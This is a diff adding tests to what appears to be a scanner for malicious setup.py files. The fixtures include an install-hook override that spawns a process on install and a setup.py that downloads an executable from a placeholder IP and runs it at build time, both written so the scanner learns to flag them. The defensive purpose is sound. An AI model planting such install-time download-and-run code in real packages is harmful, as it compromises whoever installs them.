@@ -269,3 +269,47 @@ def test_an_install_hook_beside_a_start_at_install_acts(tmp_path):
         "        setuptools.command.sdist.sdist.run(self)",
     )
     assert _install_time(_scan(tmp_path, evil))
+
+
+BUILD_STEP = """import os, subprocess, sys
+from setuptools import setup
+
+def llvm_config():
+    cmd = [sys.executable, os.path.join("ffi", "build.py")] + sys.argv[2:3]
+    subprocess.run(cmd, check=True)
+
+llvm_config()
+setup(name="tidy")
+"""
+
+
+def test_a_build_step_setup_py_computes_is_shown_not_alarmed(tmp_path):
+    res = _scan(tmp_path, BUILD_STEP)
+    spawn = [h for h in res.findings if h.rule == "py.spawn" and h.path == "setup.py"]
+    assert spawn and all(h.severity == "medium" for h in spawn)
+    assert res.risk.level not in HIGH
+
+
+def test_a_computed_start_in_an_install_override_still_acts(tmp_path):
+    evil = BUILD_STEP.replace(
+        'llvm_config()\nsetup(name="tidy")',
+        "from setuptools.command.install import install\n\n"
+        "class Post(install):\n"
+        "    def run(self):\n"
+        "        install.run(self)\n"
+        "        cmd = [os.environ.get('COMSPEC'), '/c', sys.argv[0]]\n"
+        "        subprocess.Popen(cmd)\n\n"
+        'setup(name="tidy", cmdclass={"install": Post})',
+    )
+    assert _install_time(_scan(tmp_path, evil))
+
+
+def test_a_computed_start_of_a_download_in_setup_py_stays_high(tmp_path):
+    evil = BUILD_STEP.replace(
+        '    cmd = [sys.executable, os.path.join("ffi", "build.py")] + sys.argv[2:3]\n',
+        "    import urllib.request\n"
+        "    path, _ = urllib.request.urlretrieve('http://203.0.113.4/b.exe', 'b.exe')\n"
+        "    cmd = [path]\n",
+    )
+    res = _scan(tmp_path, evil)
+    assert res.risk.level in HIGH
